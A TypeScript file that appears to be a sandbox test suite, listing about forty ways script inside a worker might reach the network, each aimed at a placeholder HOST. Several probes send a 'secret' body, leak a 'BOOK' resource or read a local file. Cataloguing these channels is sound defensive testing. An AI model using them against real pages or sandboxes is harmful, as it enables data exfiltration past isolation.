import type { Try } from './tries.ts';

/** Ways to ask somebody for something. Each has an address of its own, so that the listener can say which was heard. */
export const network: readonly Try[] = [
  ['fetch', 'fetch("http://HOST/1")'],
  ['fetch, blind', 'fetch("http://HOST/2", { mode: "no-cors" })'],
  ['fetch that posts', 'fetch("http://HOST/3", { method: "POST", body: "secret" })'],
  ['fetch that outlives', 'fetch("http://HOST/4", { keepalive: true, method: "POST", body: "x" })'],
  ['fetch with cookies', 'fetch("http://HOST/5", { credentials: "include" })'],
  ['fetch of a request', 'fetch(new Request("http://HOST/6", { referrer: "" }))'],
  ['fetch by another name', 'fetch("http://localhost:PORT/7")'],
  ['fetch of a secret’s own host', 'fetch("http://secret.localhost:PORT/8")'],
  ['fetch over TLS', 'fetch("https://HOST/9")'],
  ['fetch, borrowed', 'WorkerGlobalScope.prototype.fetch.call(self, "http://HOST/10")'],
  [
    'fetch, found',
    'Reflect.apply(Object.getPrototypeOf(self).fetch ?? fetch, self, ["http://HOST/11"])',
  ],
  ['fetch, given up', 'fetch("http://HOST/12", { signal: AbortSignal.timeout(500) })'],
  ['fetch of the book', 'fetch("BOOK?leak")'],
  ['fetch of the book, blind', 'fetch("BOOK?leak", { mode: "no-cors" })'],
  ['fetch of its own script', 'fetch(self.location.href)'],
  ['fetch of a file', 'fetch("file:///etc/hostname")'],
  ['fetch of a text', 'fetch("data:text/plain,granted")'],
  ['fetch of a blob', 'fetch(URL.createObjectURL(new Blob(["granted"])))'],
  ['an old question, waiting', 'asked("GET", "http://HOST/19", false)'],
  ['an old question', 'asked("GET", "http://HOST/20", true)'],
  ['an old question that posts', 'asked("POST", "http://HOST/21", true)'],
  ['an old question to the book', 'asked("GET", "BOOK?leak", false)'],
  ['an odd method', 'asked("PURGE", "http://HOST/23", true)'],
  ['a socket', 'opened(new WebSocket("ws://HOST/24"))'],
  ['a socket over TLS', 'opened(new WebSocket("wss://HOST/25"))'],
  ['a socket to the book', 'opened(new WebSocket("BOOK".replace("http", "ws")))'],
  ['a socket in streams', 'new WebSocketStream("ws://HOST/27").opened'],
  ['a source of events', 'opened(new EventSource("http://HOST/28"))'],
  ['a transport', 'new WebTransport("https://HOST/29").ready'],
  [
    'a call',
    `{ const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:HOST" }] });
     peer.createDataChannel("x");
     return peer.createOffer().then((offer) => peer.setLocalDescription(offer)); }`,
  ],
  ['a beacon', 'navigator.sendBeacon("http://HOST/31", "secret")'],
  ['a font', 'new FontFace("x", "url(http://HOST/32)").load()'],
  [
    'a font by its set',
    'self.fonts.add(new FontFace("y", "url(http://HOST/33)")), self.fonts.load("9px y").then((all) => { if (all.length === 0) throw all; })',
  ],
  [
    'a filter of a canvas',
    `{ const brush = new OffscreenCanvas(9, 9).getContext("2d");
     brush.filter = "url(http://HOST/34#f)";
     brush.fillRect(0, 0, 9, 9); }`,
  ],
  ['a cache that asks', 'caches.open("x").then((cache) => cache.add("http://HOST/35"))'],
  ['WebAssembly from elsewhere', 'WebAssembly.compileStreaming(fetch("http://HOST/36"))'],
  ['a report', '{ throw Object.assign(new Error("x"), { stack: "at http://HOST/37" }); }'],
  [
    'a new address',
    '{ self.location.href = "http://HOST/38"; return self.location.host === "HOST"; }',
  ],
  ['a window', 'self.open("http://HOST/39")'],
  ['a service worker', 'navigator.serviceWorker.register("http://HOST/40")'],
  ['a service worker of the book', 'navigator.serviceWorker.register("BOOKsw.js")'],
];
